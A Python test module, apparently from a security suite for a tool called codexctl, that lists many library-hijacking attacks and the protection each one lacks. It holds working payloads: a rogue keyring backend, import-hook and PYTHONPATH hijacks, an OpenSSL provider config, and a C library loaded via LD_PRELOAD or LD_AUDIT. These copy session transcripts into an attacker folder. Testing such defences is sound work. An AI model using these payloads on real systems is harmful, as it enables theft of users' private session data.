"""Side doors: what a library loads by a person's configuration, and starts that cannot be isolated.

A module or a shared object of theirs counts as inside where it is in a process that holds content;
it copies what lies in the rollouts only there. A keyring's own process may run what it likes.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

from tests.policy.doors.lock_lacks import ENVIRONMENT, ISOLATION, KEYRING, REFUSAL, Lack
from tests.policy.doors.lock_ways import CONVERT, EXPORT, SHOUT, SHOW, WORKER, Way

COPY = """\
import pathlib
home = pathlib.Path.home()
with open(home / "evil" / "out", "ab") as out:
    for one in (home / ".codex" / "sessions").iterdir():
        out.write(one.read_bytes())
"""
# Our own rooms are in the process: it reads sessions, or is about to.
INSIDE = f"""\
import sys
if "codexctl.deliver" in sys.modules or "codexctl.cli.trace.group" in sys.modules:
    exec({COPY!r})
"""
_MINE = f"""\
{INSIDE}
from keyring.backend import KeyringBackend
class Keyring(KeyringBackend):
    priority = 99
    def get_password(self, service, username): return "k1"
    def set_password(self, service, username, password): pass
    def delete_password(self, service, username): pass
"""
# Waits among the importers for a module of ours to be asked for.
FINDER = f"""\
import sys, importlib.abc
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "orjson":
            exec({SHOUT!r})
sys.meta_path.insert(0, Finder())
"""
_RC = "[backend]\ndefault-keyring = mine.Keyring\nkeyring-path = {}\n"
_LISTED = {".local/share/codexctl/keys.json": '["far"]', "evil/mine.py": _MINE}
_PATH_ONLY = "[backend]\nkeyring-path = {}\n"
_POINTS = {
    "evil/mine-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: mine\nVersion: 1\n",
    "evil/mine-1.dist-info/entry_points.txt": (
        "[keyring.backends]\nmine = mine\n[pygments.lexers]\nmine = mine:Keyring\n"
        "[opentelemetry_context]\ncontextvars_context = mine:Keyring\n"
    ),
}
_RC_FILE = ".config/python_keyring/keyringrc.cfg"
_DELIVER = WORKER + SHOW
# What Codex runs, and then a while until its worker has gone again.
HOOK = """\
"$HOOK" Stop < /dev/null
worker=
for i in $(seq 200); do
    sleep 0.05
    [ "$worker" ] || worker=$(cat ~/.local/share/codexctl/hints/.worker-* | cut -d " " -f 1)
    [ "$worker" ] || continue
    running=
    read -r running < "/proc/$worker/cmdline"
    [ "$running" ] || break
done 2>&-
"""
# A program that ends when its library is unloaded says what it was.
LIBRARY = """\
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
static char all[1 << 22];
unsigned int la_version(unsigned int version) { return version; }
struct dispatch { int id; void (*function)(void); };
/* As a provider of OpenSSL's it stays loaded to the end. */
int OSSL_provider_init(void *core, struct dispatch *in, struct dispatch **out, void **context) {
    static struct dispatch none[] = {{0, 0}};
    *out = none;
    *context = core;
    return 1;
}
__attribute__((destructor)) static void gone(void) {
    int maps = open("/proc/self/maps", O_RDONLY);
    size_t length = 0; ssize_t got;
    while ((got = read(maps, all + length, sizeof all - 1 - length)) > 0) length += got;
    close(maps);
    all[length] = 0;
    if (!strstr(all, "orjson")) return;
    DIR *folder = opendir(ROLLOUTS);
    int out = open(OUT, O_WRONLY | O_CREAT | O_APPEND, 0600);
    for (struct dirent *one; folder && (one = readdir(folder));) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", ROLLOUTS, one->d_name);
        int in = open(path, O_RDONLY);
        while ((got = read(in, all, sizeof all)) > 0) if (write(out, all, got) < 0) break;
        close(in);
    }
}
"""
MAKE = """\
cc -shared -fPIC -o ~/evil/evil.so ~/evil/evil.c \\
    -DROLLOUTS="\\"$ROLLOUTS\\"" -DOUT="\\"$HOME/evil/out\\""
"""
_OPENSSL = """\
openssl_conf = init
[init]
{0}
[evil]
{1}
activate = 1
"""
_LIB = {"evil/evil.c": LIBRARY}


@dataclass(frozen=True)
class Door(Way):
    """A way with the protection that it would succeed without.

    `for_everybody` has codexctl installed in the system's own Python as well; `compiled` needs a
    C compiler.
    """

    lacks: tuple[Lack, ...] = ()
    for_everybody: bool = False
    compiled: bool = False


def keyring(
    rc: str, files: Mapping[str, str] | None = None, /, doors: str = _DELIVER, **variables: str
) -> Door:
    plant = _LISTED | ({_RC_FILE: rc} if rc else {}) | dict(files or {})
    return Door(doors, variables, plant, 'sed -i "s#{}#$HOME/evil#" ~/.config/python_keyring/*\n'
                if rc else "", lacks=(KEYRING,))  # fmt: skip


def openssl(section: str, more: str, doors: str) -> Door:
    conf = _OPENSSL.format(section, more)
    return Door(
        doors, {"OPENSSL_CONF": "~/evil/openssl.cnf"}, {**_LIB, "evil/openssl.cnf": conf},
        MAKE + 'sed -i "s#HOME#$HOME#" ~/evil/openssl.cnf\n',
        lacks=(ENVIRONMENT,), compiled=True,
    )  # fmt: skip


def library(doors: str = CONVERT, **variables: str) -> Door:
    exports = "".join(f'export {name}="{value}"\n' for name, value in variables.items())
    return Door(exports + doors, {}, _LIB, MAKE, lacks=(ISOLATION, ENVIRONMENT), compiled=True)


_PROVIDERS = ("providers = list", "[list]\nevil = evil\n[evil]\nmodule = HOME/evil/evil.so")
_SYS = '"$SYS" -m codexctl trace convert "$ROLLOUTS" --capture full --format otlp-json\n'
_BLOCK = {"evil/orjson.py": SHOUT, "evil/click.py": SHOUT, "evil/tomllib.py": SHOUT}


def nowhere(words: str) -> Door:
    """Start the system's Python so that it does not know where it is."""
    home = "export PYTHONHOME=$(\"$SYS\" -I -c 'import sys; print(sys.base_prefix)')"
    start = f'unset PATH; export PYTHONPATH=~/evil; exec -a nowhere "$SYS" -m {words}'
    doors = f"{home}\nbash -c '{start}'\n"
    return Door(doors, {}, _BLOCK, lacks=(REFUSAL,), for_everybody=True)


def at_start(files: Mapping[str, str], lacks: tuple[Lack, ...] = (ISOLATION,)) -> Door:
    """Files in the person's own site-packages, with a system-wide installation."""
    folders = [f".local/lib/python3.{minor}/site-packages" for minor in range(11, 16)]
    plant = {f"{folder}/{name}": text for folder in folders for name, text in files.items()}
    return Door(_SYS, {}, plant, lacks=lacks, for_everybody=True)


DOORS: dict[str, Way] = {
    "a keyring of one's own by keyring-path": keyring(_RC),
    "the same, by the machine's hook": keyring(_RC, doors=HOOK),
    "the same, in the machine's worker": keyring(
        _RC, doors='CODEXCTL_MANAGED=1 "$PY" -I -E -P -m codexctl.deliver\n' + SHOW
    ),
    "the same, by an export": keyring(_RC, doors=EXPORT + SHOW),
    "the same, by an export with several processes": keyring(
        _RC, doors="codexctl trace export --all --processes 2\n" + SHOW
    ),
    "the same, below XDG_CONFIG_HOME": Door(
        _DELIVER,
        {"XDG_CONFIG_HOME": "~/x"},
        {**_LISTED, "x/python_keyring/keyringrc.cfg": _RC},
        'sed -i "s#{}#$HOME/evil#" ~/x/python_keyring/*; cp -rp ~/.config/codexctl ~/x\n',
        lacks=(KEYRING,),
    ),
    "a keyring by entry points": keyring(_PATH_ONLY, _POINTS),
    "a keyring that patches the policy away": keyring(
        _RC,
        {
            "evil/mine.py": _MINE.replace(
                INSIDE, INSIDE + "import codexctl.policy.limits.effective\n"
            )
        },
    ),
    "OPENSSL_CONF with a provider, converting": openssl(*_PROVIDERS, CONVERT),
    "OPENSSL_CONF with a provider, delivering": openssl(*_PROVIDERS, _DELIVER),
    "OPENSSL_CONF with a provider, in the machine's worker": openssl(
        *_PROVIDERS, '"$PY" -I -E -P -m codexctl.deliver\n'
    ),
    "LD_PRELOAD": library(LD_PRELOAD="$HOME/evil/evil.so"),
    "LD_PRELOAD, showing": library(EXPORT + SHOW, LD_PRELOAD="$HOME/evil/evil.so"),
    "LD_PRELOAD, in the machine's worker": library(
        '"$PY" -I -E -P -m codexctl.deliver\n', LD_PRELOAD="$HOME/evil/evil.so"
    ),
    "LD_PRELOAD, by the machine's hook": library(HOOK, LD_PRELOAD="$HOME/evil/evil.so"),
    "LD_AUDIT": library(LD_AUDIT="$HOME/evil/evil.so"),
    "PYTHONPATH that names codexctl's own packages too": Door(
        CONVERT, {}, _BLOCK, 'export PYTHONPATH="$HOME/evil:$SITE:$ROOT"', lacks=(ISOLATION,)
    ),
    "the same in PYTHONPATH, by the worker": Door(
        WORKER, {}, _BLOCK, 'export PYTHONPATH="$HOME/evil:$ROOT:$SITE"', lacks=(ISOLATION,)
    ),
    "the same, with a system-wide installation": Door(
        _SYS, {}, _BLOCK, 'export PYTHONPATH="$HOME/evil:'
        "$(\"$SYS\" -I -c 'import site; print(site.getsitepackages()[0])')\"",
        lacks=(ISOLATION,), for_everybody=True,
    ),
    "a Python that does not know where it is": nowhere(
        'codexctl trace convert "$ROLLOUTS" --capture full'
    ),
    "the same, by the worker": nowhere("codexctl.deliver"),
    "an environment of one's own over the system's": Door(
        '~/venv/bin/python -I -m codexctl trace convert "$ROLLOUTS" --capture full\n', {}, {},
        '"$SYS" -I -m venv --without-pip --system-site-packages ~/venv\n'
        f"for d in ~/venv/lib/python3.*; do cat > $d/site-packages/orjson.py <<'END'\n{SHOUT}END\n"
        "done\n",
        lacks=(REFUSAL,), for_everybody=True,
    ),
    "OpenTelemetry's plugins by name": Door(
        _DELIVER, {"OTEL_PYTHON_CONTEXT": "mine", "PYTHONPATH": "~/evil"},
        {"evil/mine.py": INSIDE, **_POINTS, "evil/mine-1.dist-info/entry_points.txt":
         "[opentelemetry_context]\nmine = mine:Context\n"}, lacks=(ISOLATION,),
    ),
    "a person's own site-packages of a system-wide installation": at_start({"orjson.py": SHOUT}),
    "the same, by a file that imports": at_start({"a.pth": "import mine", "mine.py": FINDER}),
    "the same, by usercustomize": at_start({"usercustomize.py": FINDER}),
}  # fmt: skip
